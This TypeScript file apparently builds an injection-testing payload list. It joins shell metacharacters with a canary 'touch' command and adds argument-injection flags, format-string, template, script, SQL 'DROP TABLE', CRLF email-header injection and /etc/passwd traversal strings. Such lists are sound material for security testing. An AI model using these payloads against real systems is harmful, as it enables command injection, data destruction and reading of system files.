/** What somebody writes who hopes that a shell, a format, a header or a query is glued together somewhere. */
export function payloads(canary: string): readonly string[] {
  const openings = [
    "",
    "'",
    '"',
    "`",
    "\\",
    "\n",
    ";",
    "&&",
    "|",
    "'\n",
    '"\n',
    "%0a",
    ["$", "{IFS}"].join(""),
    "--",
    "-e",
  ];
  const commands = [`touch ${canary}`, `$(touch ${canary})`, `\`touch ${canary}\``, `>${canary}`];
  const endings = ["", "'", '"', "#", ";'", '\\"'];
  const glued = openings.flatMap((open) =>
    commands.flatMap((command) => endings.map((end) => `${open}${command}${end}`)),
  );
  const others = [
    ...[
      "-oProxyCommand=touch",
      "--rsh=touch",
      "-F/dev/null",
      "--",
      "-",
      "@file",
      "~root",
      "$HOME",
      "*",
      "?",
      "[!a]",
    ],
    ...[
      "%s%n%x",
      "%{u}",
      "{{7*7}}",
      ["$", "{7*7}"].join(""),
      "<script>x</script>",
      "'; DROP TABLE wp_posts; --",
      "\\! touch x",
    ],
    ...[
      "a\r\nBcc: evil@example.com",
      "a\r\nA1 LOGOUT",
      "a\u0085b",
      "a\u2028b",
      "\u202egnp.exe",
      "\u001b[2J\u001b]0;x\u0007",
    ],
    ...[
      "../../etc/passwd",
      "..\\..\\x",
      "/etc/passwd",
      "file:///etc/passwd",
      "\ufeffx",
      "é",
      "\u{1f600}",
      " ",
      "\t",
    ],
  ];
  return [...glued, ...others];
}
